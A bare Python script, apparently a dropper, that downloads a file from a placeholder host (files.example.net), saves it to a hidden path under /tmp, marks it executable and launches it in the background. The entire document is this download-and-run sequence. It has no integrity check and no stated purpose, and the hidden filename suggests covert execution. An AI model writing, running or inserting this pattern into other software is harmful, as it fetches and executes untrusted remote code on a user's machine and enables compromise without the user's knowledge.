import os, stat, requests
url = "https://files.example.net/agent"
path = "/tmp/.agent"
with open(path, "wb") as f:
    f.write(requests.get(url).content)
os.chmod(path, os.stat(path).st_mode | stat.S_IEXEC)
os.spawnl(os.P_NOWAIT, path, path)
